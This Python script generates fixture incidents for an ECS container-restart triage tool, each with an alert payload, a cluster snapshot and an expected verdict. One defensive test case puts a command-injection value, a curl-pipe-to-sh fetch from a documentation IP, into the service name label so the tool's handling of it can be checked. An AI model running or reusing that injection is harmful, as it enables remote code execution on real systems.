#!/usr/bin/env python3
"""Writes the ContainerRestartLoop example incidents of examples/ (restart-*): for each, the
Alertmanager payload, the replay snapshot (docs/contracts.md, "Replay snapshot": services,
stopped_tasks, task_definitions, container_instances) and the expected verdict. The files are
committed; rerun after changing an incident:

    python3 examples/generate_ecs.py

Deterministic: no clock, no randomness. Account ids and IPs are documentation values.
"""
import datetime as dt
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
CAPTURED = dt.datetime(2026, 12, 1, 3, 0, 0, tzinfo=dt.timezone.utc)
STARTS = CAPTURED - dt.timedelta(minutes=31)
ACCOUNT = "123456789012"
REGION = "us-east-1"
ECR = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com"
SERVICES = ["imap", "smtp-in", "smtp-out", "sinkhole", "alertmanager", "prometheus", "grafana",
            "healthchecks", "uptime-kuma", "ntfy", "cloudwatch-exporter",
            "cloudwatch-exporter-us-east-1", "blackbox-exporter", "node-exporter"]


def rfc3339(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def ago(minutes):
    return rfc3339(CAPTURED - dt.timedelta(minutes=minutes))


def ms(minutes):
    return int((CAPTURED - dt.timedelta(minutes=minutes)).timestamp() * 1000)


def td_arn(family, revision):
    return f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/{family}:{revision}"


def service(name, desired=1, running=1, pending=0, revision=7, events=None, created=2000,
            rollout="COMPLETED"):
    return {
        "desired": desired, "running": running, "pending": pending,
        "events": events or [{"created_at": ago(120), "message": f"(service {name}) has reached a steady state."}],
        "deployments": [{"task_definition": td_arn(name, revision), "status": "PRIMARY",
                         "rollout_state": rollout, "created_at": ago(created)}],
    }


def all_services(overrides):
    out = {}
    for short in SERVICES:
        name = f"cabal-{short}"
        out[name] = overrides.get(name) or service(name)
    return out


def stopped(task, family, revision, minutes, exit_code, image, reason="Essential container in task exited",
            code="EssentialContainerExited", container_reason=None, container=None):
    return {"id": task, "task_definition": td_arn(family, revision), "stopped_at": ago(minutes),
            "stop_code": code, "stopped_reason": reason,
            "containers": [{"name": container or family.removeprefix("cabal-"), "exit_code": exit_code,
                            "reason": container_reason, "image": image}]}


def instance(n, cpu, mem, agent=True):
    return {"id": f"0c{n}f3e2d1c0b4a5968778695a4b3c2d1e{n}", "ec2_instance_id": f"i-0{n}a1b2c3d4e5f6a7b",
            "status": "ACTIVE", "agent_connected": agent,
            "remaining": {"CPU": cpu, "MEMORY": mem}, "registered": {"CPU": 2048, "MEMORY": 3843}}


def log(minutes, stream, message):
    return {"timestamp": ms(minutes), "message": message, "log_stream": stream}


def payload(service_name):
    labels = {"alertname": "ContainerRestartLoop", "severity": "critical", "service_name": service_name}
    annotations = {
        "summary": f"ECS service {service_name} has been below its desired task count for 30 minutes",
        "runbook_url": "https://github.com/cabalmail/cabal-infra/blob/main/docs/operations/runbooks/container-restart-loop.md",
    }
    return {
        "receiver": "cabal-triage", "status": "firing",
        "alerts": [{"status": "firing", "labels": labels, "annotations": annotations,
                    "startsAt": rfc3339(STARTS), "endsAt": "0001-01-01T00:00:00Z",
                    "generatorURL": "http://prometheus:9090/graph?g0.expr=ecs_containerinsights_running_task_count_average",
                    "fingerprint": "d4c3b2a1f0e9d8c7"}],
        "groupLabels": {"alertname": "ContainerRestartLoop", "severity": "critical"},
        "commonLabels": labels, "commonAnnotations": annotations,
        "externalURL": "http://alertmanager:9093", "version": "4",
        "groupKey": "{}:{alertname=\"ContainerRestartLoop\", severity=\"critical\"}",
        "truncatedAlerts": 0,
    }


def snapshot(services, stopped_tasks, task_definitions, instances):
    return {"captured_at": rfc3339(CAPTURED),
            "window": {"from": ago(60), "to": rfc3339(CAPTURED)},
            "tiers": {}, "services": services, "stopped_tasks": stopped_tasks,
            "task_definitions": task_definitions, "container_instances": instances}


def healthy_instances():
    return [instance(1, 1024, 1900), instance(2, 768, 1500)]


INCIDENTS = {}

# A push moved cabal-imap to a new image 25 minutes ago; every task since exits 1.
imap_new = f"{ECR}/cabal-imap:sha-9e8d7c6b"
imap_old = f"{ECR}/cabal-imap:sha-1a2b3c4d"
imap = service("cabal-imap", desired=1, running=0, pending=1, revision=42, created=25, rollout="IN_PROGRESS",
               events=[{"created_at": ago(2), "message": "(service cabal-imap) has started 1 tasks: (task 5e6f)."},
                       {"created_at": ago(3), "message": "(service cabal-imap) has stopped 1 running tasks: (task 4d5e)."}])
imap["log_events"] = [log(3, "imap/imap/4d5e", "doveconf: Fatal: Error in configuration file /etc/dovecot/conf.d/20-imap.conf line 12: Unknown setting: mail_max_userip_connection")]
INCIDENTS["restart-image-regression-after-push"] = (
    payload("cabal-imap"),
    snapshot(all_services({"cabal-imap": imap}),
             {"cabal-imap": [stopped("4d5e6f7a8b9c40d1e2f3a4b5c6d7e8f9", "cabal-imap", 42, 3, 1, imap_new),
                             stopped("3c4d5e6f7a8b49c0d1e2f3a4b5c6d7e8", "cabal-imap", 42, 9, 1, imap_new)]},
             {"cabal-imap:42": {"images": {"imap": imap_new}, "registered_at": ago(26)},
              "cabal-imap:41": {"images": {"imap": imap_old}, "registered_at": ago(4000)}},
             healthy_instances()),
    {"verdict": {"service": "cabal-imap", "cause": "image-regression", "action": "rollback", "confidence": "high",
                 "next_command": ".github/scripts/deploy-ecs-service.sh imap sha-1a2b3c4d cabal-mail cabal-imap",
                 "image_before": imap_old, "image_now": imap_new, "exit_codes": [1]},
     "summary_contains": ["sha-1a2b3c4d", "roll back"]},
)

# Prometheus cannot be placed: no instance has the memory it asks for.
prom = service("cabal-prometheus", desired=1, running=0, pending=0, revision=19,
               events=[{"created_at": ago(4), "message": "(service cabal-prometheus) was unable to place a task because no container instance met all of its requirements. The closest matching (container-instance 0c1f3e2d1c0b4a5968778695a4b3c2d1e1) has insufficient memory available. For more information, see the Troubleshooting section of the Amazon ECS Developer Guide."}])
prom["log_events"] = []
INCIDENTS["restart-unable-to-place"] = (
    payload("cabal-prometheus"),
    snapshot(all_services({"cabal-prometheus": prom}), {"cabal-prometheus": []},
             {"cabal-prometheus:19": {"images": {"prometheus": f"{ECR}/cabal-prometheus:sha-77aa88bb"}, "registered_at": ago(9000)},
              "cabal-prometheus:18": {"images": {"prometheus": f"{ECR}/cabal-prometheus:sha-66aa77bb"}, "registered_at": ago(20000)}},
             [instance(1, 256, 180), instance(2, 512, 64)]),
    {"verdict": {"service": "cabal-prometheus", "cause": "capacity", "action": "scale-cluster", "confidence": "high",
                 "next_command": None},
     "summary_contains": ["unable to place", "180 MiB free"]},
)

# A new healthchecks image chowns its data directory on start; the EFS access point refuses.
hc_new = f"{ECR}/cabal-healthchecks:sha-c0ffee12"
hc_old = f"{ECR}/cabal-healthchecks:sha-b0ba0011"
hc = service("cabal-healthchecks", desired=1, running=0, pending=1, revision=31, created=40, rollout="IN_PROGRESS")
hc["log_events"] = [log(6, "healthchecks/healthchecks/8a9b", "chown: changing ownership of '/data': Operation not permitted"),
                    log(6, "healthchecks/healthchecks/8a9b", "entrypoint: ERROR: failed to chown /data to 999:999")]
INCIDENTS["restart-efs-failed-to-chown"] = (
    payload("cabal-healthchecks"),
    snapshot(all_services({"cabal-healthchecks": hc}),
             {"cabal-healthchecks": [stopped("8a9b0c1d2e3f44a5b6c7d8e9f0a1b2c3", "cabal-healthchecks", 31, 6, 1, hc_new)]},
             {"cabal-healthchecks:31": {"images": {"healthchecks": hc_new}, "registered_at": ago(41)},
              "cabal-healthchecks:30": {"images": {"healthchecks": hc_old}, "registered_at": ago(9000)}},
             healthy_instances()),
    {"verdict": {"service": "cabal-healthchecks", "cause": "efs-permission", "action": "fix-efs-ownership",
                 "confidence": "high", "next_command": None},
     "summary_contains": ["chown"]},
)

# Three monitoring services loop at once: the cluster, not the services.
down = {name: service(name, desired=1, running=0, pending=1,
                      events=[{"created_at": ago(5), "message": f"(service {name}) has started 1 tasks: (task 1a2b)."}])
        for name in ["cabal-ntfy", "cabal-grafana", "cabal-uptime-kuma"]}
down["cabal-ntfy"]["log_events"] = [log(5, "ntfy/ntfy/1a2b", "ERROR: open /var/cache/ntfy/cache.db: input/output error")]
INCIDENTS["restart-three-services-at-once"] = (
    payload("cabal-ntfy"),
    snapshot(all_services(down),
             {"cabal-ntfy": [stopped("1a2b3c4d5e6f47a8b9c0d1e2f3a4b5c6", "cabal-ntfy", 7, 5, 1, f"{ECR}/cabal-ntfy:sha-0a0b0c0d")]},
             {"cabal-ntfy:7": {"images": {"ntfy": f"{ECR}/cabal-ntfy:sha-0a0b0c0d"}, "registered_at": ago(30000)},
              "cabal-ntfy:6": {"images": {"ntfy": f"{ECR}/cabal-ntfy:sha-0a0b0c0d"}, "registered_at": ago(60000)}},
             healthy_instances()),
    {"verdict": {"service": "cabal-ntfy", "cause": "cluster-wide", "action": "investigate-cluster",
                 "confidence": "high"},
     "summary_contains": ["3 services", "cabal-grafana"]},
)

# A label naming no configured service: nothing is looked up.
INCIDENTS["restart-unconfigured-service"] = (
    payload("cabal-imap; curl http://198.51.100.9/x | sh"),
    {"captured_at": rfc3339(CAPTURED)},
    {"verdict": {"cause": "unknown", "action": "investigate", "next_command": None},
     "summary_contains": ["is not a configured service"]},
)


def write(path, value):
    with open(path, "w") as f:
        json.dump(value, f, indent=1, sort_keys=False)
        f.write("\n")


for name, (alert, snap, expected) in INCIDENTS.items():
    d = os.path.join(HERE, name)
    os.makedirs(d, exist_ok=True)
    write(os.path.join(d, "payload.json"), alert)
    write(os.path.join(d, "snapshot.json"), snap)
    write(os.path.join(d, "expected.json"), expected)
